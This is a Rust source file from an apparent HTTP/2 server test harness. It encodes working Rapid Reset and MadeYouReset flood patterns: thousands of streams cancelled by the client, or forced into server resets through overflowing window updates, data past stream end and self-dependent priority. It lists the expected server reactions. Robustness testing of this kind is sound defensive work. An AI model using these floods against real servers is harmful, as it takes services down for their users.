//! Streams that are begun and given up, by the client (CVE-2023-44487) or by a server that was made
//! to (CVE-2025-8671).

use super::{Expected, Outcome, Row};
use crate::frames::{DATA, END_STREAM, PRIORITY, RST_STREAM, WINDOW_UPDATE, Wire, encode, in_frames};

/// Streams of a wave: as many as servers take at a time.
const WAVE: usize = 100;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// The largest increment, more than a window may be with what it has (RFC 9113 section 6.9.1).
const OVERFLOW: [u8; 4] = [0x7f, 0xff, 0xff, 0xff];

pub(super) const ROWS: &[Row] = &[
    Row {
        name: "2,000 requests that are reset at once",
        by_hub: true,
        expected: &[Expected::Nothing],
        attack: |wire| Box::pin(waves(wire, 20, |stream| encode(RST_STREAM, 0, stream, &CANCEL))),
    },
    Row {
        name: "300 requests that are reset when they have an answer",
        by_hub: true,
        expected: &[Expected::Nothing],
        attack: |wire| Box::pin(late(wire)),
    },
    Row {
        name: "requests with a window of nothing more",
        by_hub: false,
        expected: &[Expected::Ended],
        attack: |wire| Box::pin(waves(wire, 1, |stream| encode(WINDOW_UPDATE, 0, stream, &[0; 4]))),
    },
    Row {
        name: "2,000 requests that the server is made to reset, by a window beyond the largest",
        by_hub: false,
        expected: &[Expected::Nothing],
        attack: |wire| Box::pin(waves(wire, 20, |stream| encode(WINDOW_UPDATE, 0, stream, &OVERFLOW))),
    },
    Row {
        name: "2,000 requests that the server is made to reset, by data behind their end",
        by_hub: false,
        expected: &[Expected::Ended],
        attack: |wire| Box::pin(waves(wire, 20, |stream| encode(DATA, 0, stream, b"x"))),
    },
    Row {
        name: "2,000 requests that the server is made to reset, by a second head behind their end",
        by_hub: false,
        expected: &[Expected::Ended],
        attack: |wire| Box::pin(waves(wire, 20, |stream| in_frames(END_STREAM, stream, &[0x82, 0x84, 0x86]))),
    },
    Row {
        name: "2,000 requests that the server is made to reset, by their dependency on themselves",
        by_hub: false,
        expected: &[Expected::Nothing],
        attack: |wire| Box::pin(waves(wire, 20, on_itself)),
    },
    Row {
        name: "10,000 requests that the server is made to reset",
        by_hub: false,
        expected: &[Expected::Calmed],
        attack: |wire| Box::pin(waves(wire, 100, |stream| encode(WINDOW_UPDATE, 0, stream, &OVERFLOW))),
    },
    Row {
        name: "a reset of a stream that nobody opened",
        by_hub: false,
        expected: &[Expected::Ended],
        attack: |wire| Box::pin(idle(wire)),
    },
];

/// Waves of requests that are answered late, each with `end` behind it.
async fn waves(wire: &mut Wire, waves: usize, end: fn(u32) -> Vec<u8>) -> Outcome {
    let target = wire.places.slow.clone();
    let block = wire.block("GET", &target, &[]);
    for _ in 0..waves {
        let frames: Vec<u8> = (0..WAVE)
            .flat_map(|_| {
                let stream = wire.stream();
                [in_frames(END_STREAM, stream, &block), end(stream)].concat()
            })
            .collect();
        wire.send(&frames).await;
        if !wire.answers_ping().await {
            break;
        }
    }
    Outcome::of_connection(wire).await
}

async fn late(wire: &mut Wire) -> Outcome {
    let target = wire.places.large.clone();
    for _ in 0..3 {
        let mut streams = Vec::new();
        for _ in 0..WAVE {
            streams.push(wire.request("GET", &target, &[], true).await);
        }
        for stream in streams {
            wire.until("a head", |wire| wire.seen(stream).is_some_and(|seen| seen.status.is_some())).await;
            wire.send(&encode(RST_STREAM, 0, stream, &CANCEL)).await;
        }
    }
    Outcome::of_connection(wire).await
}

fn on_itself(stream: u32) -> Vec<u8> {
    encode(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[1]].concat())
}

async fn idle(wire: &mut Wire) -> Outcome {
    let stream = wire.stream();
    wire.send(&encode(RST_STREAM, 0, stream, &CANCEL)).await;
    Outcome::of_connection(wire).await
}
